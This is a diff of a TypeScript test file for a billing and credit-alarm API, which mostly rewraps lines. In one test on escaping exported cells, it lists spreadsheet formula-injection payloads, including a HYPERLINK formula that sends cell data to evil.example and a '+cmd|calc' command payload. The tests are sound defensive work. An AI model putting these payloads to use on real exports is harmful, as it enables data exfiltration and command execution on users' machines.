@@ -19,7 +19,13 @@ const DUP_MSG = alarmForm.properties.alarmPhone.errorMessage.format;
 
 async function ledgerOf(s: TestServer, clientid: string) {
   const id = await accountId(s, clientid);
-  return db(s).selectFrom('ledger').selectAll().where('account_id', '=', id).where('amount', '<>', '0').orderBy('id', 'desc').execute();
+  return db(s)
+    .selectFrom('ledger')
+    .selectAll()
+    .where('account_id', '=', id)
+    .where('amount', '<>', '0')
+    .orderBy('id', 'desc')
+    .execute();
 }
 
 async function events(s: TestServer, clientid: string) {
@@ -41,7 +47,11 @@ describe.each(backends)('bills (%s)', (backend) => {
     const { server } = t;
     agent1 = await as(server, 'agent1');
     // an expense (sub-account recharge with an order number) and a credit raise by the operator CLI
-    const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '10.25', requestId: 'ORD-own-1' });
+    const rc = await agent1.post('/api/client/recharge', {
+      clientId: 'client1',
+      amount: '10.25',
+      requestId: 'ORD-own-1',
+    });
     expect(rc.body.code).toBe(0);
     expect((await cli(server, 'agent-credit', 'agent1', '1000', '临时提额')).code).toBe(0);
 
@@ -75,10 +85,18 @@ describe.each(backends)('bills (%s)', (backend) => {
       paymentId: '',
     });
     // the agent's own note follows the name; a rollback names the sub-account too
-    expect((await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '1.00', remark: '11月套餐' })).body.code).toBe(0);
+    expect(
+      (await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '1.00', remark: '11月套餐' })).body
+        .code,
+    ).toBe(0);
     expect((await agent1.post('/api/client/rollback', { clientId: 'client1', amount: '1.00' })).body.code).toBe(0);
-    const [back, noted] = (await agent1.post('/api/finance/bill/self', { currentPage: 1, pageRowCount: 2 })).body.data.list;
-    expect(noted).toMatchObject({ payment_type_str: '子账户充值', amount_str: '-1.00', remark: '子账户充值 client1（苏州好易购电子商务有限公司）：11月套餐' });
+    const [back, noted] = (await agent1.post('/api/finance/bill/self', { currentPage: 1, pageRowCount: 2 })).body.data
+      .list;
+    expect(noted).toMatchObject({
+      payment_type_str: '子账户充值',
+      amount_str: '-1.00',
+      remark: '子账户充值 client1（苏州好易购电子商务有限公司）：11月套餐',
+    });
     expect(back).toMatchObject({
       payment_type_str: '子账户回退',
       amount_str: '1.00',
@@ -89,7 +107,10 @@ describe.each(backends)('bills (%s)', (backend) => {
     for (const row of r.body.data.list) expect(ledger.find((l) => l.id === row.id)?.amount).toBe(row.amount_str);
 
     const data = await agent1.get('/api/finance/bill/data');
-    expect(data.body.data).toEqual({ available_line: await balance(server, 'agent1'), balance: await balance(server, 'agent1') });
+    expect(data.body.data).toEqual({
+      available_line: await balance(server, 'agent1'),
+      balance: await balance(server, 'agent1'),
+    });
   });
 
   it('filters: financial type, payment type, order number, days; bad values are refused', async () => {
@@ -106,13 +127,22 @@ describe.each(backends)('bills (%s)', (backend) => {
     const order = await agent1.post('/api/finance/bill/self', { order_id: 'ORD-own-1' });
     expect(order.body.data.list.map((x: any) => x.amount_str)).toEqual(['-10.25']);
     const day = today(server);
-    const todays = await agent1.post('/api/finance/bill/self', { start_time_day: day, end_time_day: day, pageRowCount: 200 });
+    const todays = await agent1.post('/api/finance/bill/self', {
+      start_time_day: day,
+      end_time_day: day,
+      pageRowCount: 200,
+    });
     expect(todays.body.data.totalCount).toBeGreaterThanOrEqual(2);
     const future = await agent1.post('/api/finance/bill/self', { start_time_day: '2099-01-01' });
     expect(future.body.data).toMatchObject({ list: [], totalCount: 0 });
 
-    expect((await agent1.post('/api/finance/bill/self', { start_time_day: '2026-02-31' })).body).toMatchObject({ code: 400, msg: '日期格式不正确' });
-    expect((await agent1.post('/api/finance/bill/self', { start_time_day: '2026-03-02', end_time_day: '2026-03-01' })).body).toMatchObject({
+    expect((await agent1.post('/api/finance/bill/self', { start_time_day: '2026-02-31' })).body).toMatchObject({
+      code: 400,
+      msg: '日期格式不正确',
+    });
+    expect(
+      (await agent1.post('/api/finance/bill/self', { start_time_day: '2026-03-02', end_time_day: '2026-03-01' })).body,
+    ).toMatchObject({
       code: 400,
       msg: '结束日期不能早于开始日期',
     });
@@ -160,9 +190,21 @@ describe.each(backends)('bills (%s)', (backend) => {
 
   it('exported cells that a spreadsheet would take as a formula get a single quote; amounts stay as they are', async () => {
     const { server } = t;
-    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+    const evil = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+      '+1+cmd|calc',
+      '-2+3',
+      '@SUM(1,1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
     for (const [i, requestId] of evil.entries()) {
-      const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '0.01', requestId: `${requestId}${i}`, remark: requestId.trim() });
+      const rc = await agent1.post('/api/client/recharge', {
+        clientId: 'client1',
+        amount: '0.01',
+        requestId: `${requestId}${i}`,
+        remark: requestId.trim(),
+      });
       expect(rc.body.code).toBe(0);
     }
     const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
@@ -184,7 +226,8 @@ describe.each(backends)('bills (%s)', (backend) => {
     // (the form trims the order number: a leading tab / CR arrives as the formula behind it; safeCell quotes both, tests/server/export-cells.test.ts)
     // a recharge's request id (the client's) is not an order number and is not written; its remark follows the sub-account's name
     for (const [i, requestId] of evil.entries()) expect(orderIds).not.toContain(`'${requestId.trim()}${i}`);
-    for (const requestId of evil) expect(remarks).toContain(`子账户充值 client1（苏州好易购电子商务有限公司）：${requestId.trim()}`);
+    for (const requestId of evil)
+      expect(remarks).toContain(`子账户充值 client1（苏州好易购电子商务有限公司）：${requestId.trim()}`);
     expect([...orderIds, ...remarks].some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
     // negative amounts are numbers, not formulas: unchanged
     expect(amounts).toContain('-0.01');
@@ -199,7 +242,13 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(r.body.code).toBe(0);
     const [cut, raise] = r.body.data.list;
     expect(r.body.data.totalCount).toBe(2);
-    expect(cut).toMatchObject({ rownum: 1, amount: '-200.00', payment_type: 10, payment_type_str: '降低额度', endTIme: '' });
+    expect(cut).toMatchObject({
+      rownum: 1,
+      amount: '-200.00',
+      payment_type: 10,
+      payment_type_str: '降低额度',
+      endTIme: '',
+    });
     expect(raise).toMatchObject({ rownum: 2, amount: '1000.00', payment_type: 9, endTIme: cut.beginTime });
     // page 2 of size 1: the older row, still ended by the newer one
     const p2 = await agent1.get('/api/finance/creditHistories/list?currentPage=2&pageRowCount=1');
@@ -209,27 +258,60 @@ describe.each(backends)('bills (%s)', (backend) => {
 
   it('credit alarm form: every rule and message of the spec', async () => {
     const edit = (p: Record<string, unknown>) => agent1.post('/api/finance/agentBalanceAlarm/edit', p);
-    for (const bad of ['', 'abc', '1.5', '-1', ' ']) expect((await edit({ alarmAmount: bad, alarmPhone: '13800138000' })).body).toMatchObject({ code: 400, msg: AMOUNT_MSG });
+    for (const bad of ['', 'abc', '1.5', '-1', ' '])
+      expect((await edit({ alarmAmount: bad, alarmPhone: '13800138000' })).body).toMatchObject({
+        code: 400,
+        msg: AMOUNT_MSG,
+      });
     expect((await edit({ alarmPhone: '13800138000' })).body).toMatchObject({ code: 400, msg: AMOUNT_MSG });
     for (const big of ['1000001', '2000000', '99999999', '00001000001'])
-      expect((await edit({ alarmAmount: big, alarmPhone: '13800138000' })).body).toMatchObject({ code: 400, msg: MAX_MSG });
-    for (const bad of ['123', '1380013800', '23800138000', '13800138000,', '13800138000，13900139000', '13800138000;13900139000'])
+      expect((await edit({ alarmAmount: big, alarmPhone: '13800138000' })).body).toMatchObject({
+        code: 400,
+        msg: MAX_MSG,
+      });
+    for (const bad of [
+      '123',
+      '1380013800',
+      '23800138000',
+      '13800138000,',
+      '13800138000，13900139000',
+      '13800138000;13900139000',
+    ])
       expect((await edit({ alarmAmount: '100', alarmPhone: bad })).body).toMatchObject({ code: 400, msg: PHONE_MSG });
-    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000,13900139000,13800138000' })).body).toMatchObject({ code: 400, msg: DUP_MSG });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000,13900139000,13800138000' })).body).toMatchObject({
+      code: 400,
+      msg: DUP_MSG,
+    });
     // an amount without a phone cannot remind anyone
     expect((await edit({ alarmAmount: '100', alarmPhone: '' })).body).toMatchObject({ code: 400, msg: PHONE_MSG });
-    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000', agentId: 'agent0' })).body).toMatchObject({ code: 403, msg: alarmForm['x-messages'].notOwn });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138000', agentId: 'agent0' })).body).toMatchObject({
+      code: 403,
+      msg: alarmForm['x-messages'].notOwn,
+    });
     expect(MAX_MSG).toBe('提醒额度不能大于100万');
     expect(AMOUNT_MSG).toBe('提醒额度为大于0的整数，且不能为空');
     expect([PHONE_MSG, DUP_MSG]).toEqual(['手机号码格式不正确', '手机号码重复']);
 
     // at most 5 phones, and only the account's own (verified) mobile: no free SMS to anyone else
     const six = Array.from({ length: 6 }, (_, i) => `1380013800${i}`).join(',');
-    expect((await edit({ alarmAmount: '100', alarmPhone: six })).body).toMatchObject({ code: 400, msg: '最多填写5个手机号码' });
-    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138001,13900139000' })).body).toMatchObject({ code: 400, msg: alarmForm['x-messages'].phoneNotVerified });
-    expect((await edit({ alarmAmount: '100', alarmPhone: '13900139000' })).body).toMatchObject({ code: 400, msg: alarmForm['x-messages'].phoneNotVerified });
+    expect((await edit({ alarmAmount: '100', alarmPhone: six })).body).toMatchObject({
+      code: 400,
+      msg: '最多填写5个手机号码',
+    });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13800138001,13900139000' })).body).toMatchObject({
+      code: 400,
+      msg: alarmForm['x-messages'].phoneNotVerified,
+    });
+    expect((await edit({ alarmAmount: '100', alarmPhone: '13900139000' })).body).toMatchObject({
+      code: 400,
+      msg: alarmForm['x-messages'].phoneNotVerified,
+    });
     const max = await edit({ alarmAmount: '1000000', alarmPhone: '13800138001', agentId: 'agent1' });
-    expect(max.body).toMatchObject({ code: 0, msg: alarmForm['x-messages'].saved, data: { agentId: 'agent1', alarmAmount: '1000000', alarmPhone: '13800138001' } });
+    expect(max.body).toMatchObject({
+      code: 0,
+      msg: alarmForm['x-messages'].saved,
+      data: { agentId: 'agent1', alarmAmount: '1000000', alarmPhone: '13800138001' },
+    });
     // 0 = no reminder, phones optional
     const off = await edit({ alarmAmount: '0', alarmPhone: '' });
     expect(off.body.data).toMatchObject({ alarmAmount: '0', alarmPhone: '' });
@@ -244,7 +326,10 @@ describe.each(backends)('bills (%s)', (backend) => {
     const agent0 = await as(server, 'agent0');
     const start = Number(await balance(server, 'agent0'));
     const threshold = start - 1000;
-    const set = await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: String(threshold), alarmPhone: '13800138000' });
+    const set = await agent0.post('/api/finance/agentBalanceAlarm/edit', {
+      alarmAmount: String(threshold),
+      alarmPhone: '13800138000',
+    });
     expect(set.body.code).toBe(0);
     expect(set.body.data.armed).toBe(1);
 
@@ -261,7 +346,11 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(await events(server, 'agent0')).toHaveLength(1);
     expect((await agent0.get('/api/finance/agentBalanceAlarm/get')).body.data.armed).toBe(1);
     // five concurrent recharges of a sub-account cross once: exactly one more alarm
-    const five = await Promise.all(Array.from({ length: 5 }, (_, i) => agent0.post('/api/client/recharge', { clientId: 'client0', amount: '300.00', requestId: `alarm-${i}` })));
+    const five = await Promise.all(
+      Array.from({ length: 5 }, (_, i) =>
+        agent0.post('/api/client/recharge', { clientId: 'client0', amount: '300.00', requestId: `alarm-${i}` }),
+      ),
+    );
     expect(five.map((x) => x.body.code)).toEqual([0, 0, 0, 0, 0]);
     const ev = await events(server, 'agent0');
     expect(ev).toHaveLength(2);
@@ -271,7 +360,10 @@ describe.each(backends)('bills (%s)', (backend) => {
 
     // the job turns each crossing into a system task, once, whichever process runs it; the second
     // crossing is within the 24 h cooldown of the first alarm: recorded, no SMS
-    const sent = await Promise.all([server.app.services.bills.deliverAlarms(), server.app.services.bills.deliverAlarms()]);
+    const sent = await Promise.all([
+      server.app.services.bills.deliverAlarms(),
+      server.app.services.bills.deliverAlarms(),
+    ]);
     expect(sent[0] + sent[1]).toBe(2);
     expect(await server.app.services.bills.deliverAlarms()).toBe(0);
     const handled = await events(server, 'agent0');
@@ -292,7 +384,11 @@ describe.each(backends)('bills (%s)', (backend) => {
       .execute();
     expect(msgs.map((m) => m.phone).sort()).toEqual(['13800138000']);
     expect(msgs.every((m) => m.state === 0 && m.next_at !== null && Number(m.price) === 0)).toBe(true);
-    const task = await db(server).selectFrom('sms_tasks').selectAll().where('id', '=', after[0].task_id!).executeTakeFirstOrThrow();
+    const task = await db(server)
+      .selectFrom('sms_tasks')
+      .selectAll()
+      .where('id', '=', after[0].task_id!)
+      .executeTakeFirstOrThrow();
     expect(task.content).toContain('【云讯通】');
     expect(task.content).toContain(`提醒额度${threshold}元`);
     const balanceBefore = await balance(server, 'agent0');
@@ -325,7 +421,10 @@ describe.each(backends)('bills (%s)', (backend) => {
     const agent0 = await as(server, 'agent0');
     const before = (await events(server, 'agent0')).length;
     const high = String(Math.floor(Number(await balance(server, 'agent0'))) + 500);
-    const r = await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: high, alarmPhone: '13800138000' });
+    const r = await agent0.post('/api/finance/agentBalanceAlarm/edit', {
+      alarmAmount: high,
+      alarmPhone: '13800138000',
+    });
     expect(r.body.data.armed).toBe(0);
     await cli(server, 'agent-credit', 'agent0', '-1');
     expect(await events(server, 'agent0')).toHaveLength(before);
@@ -346,7 +445,10 @@ describe.each(backends)('bills (%s)', (backend) => {
     server.clock.advance(25 * 3600_000);
     const agent0 = await as(server, 'agent0');
     const attackPhones = Array.from({ length: 20 }, (_, i) => `186${String(i).padStart(8, '0')}`).join(',');
-    expect((await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: '100', alarmPhone: attackPhones })).body.code).toBe(400);
+    expect(
+      (await agent0.post('/api/finance/agentBalanceAlarm/edit', { alarmAmount: '100', alarmPhone: attackPhones })).body
+        .code,
+    ).toBe(400);
     // a row saved before this rule (20 foreign phones): the job sends to the own mobile only
     const id = await accountId(server, 'agent0');
     const frac = Math.ceil(Number(await balance(server, 'agent0'))) - Number(await balance(server, 'agent0'));
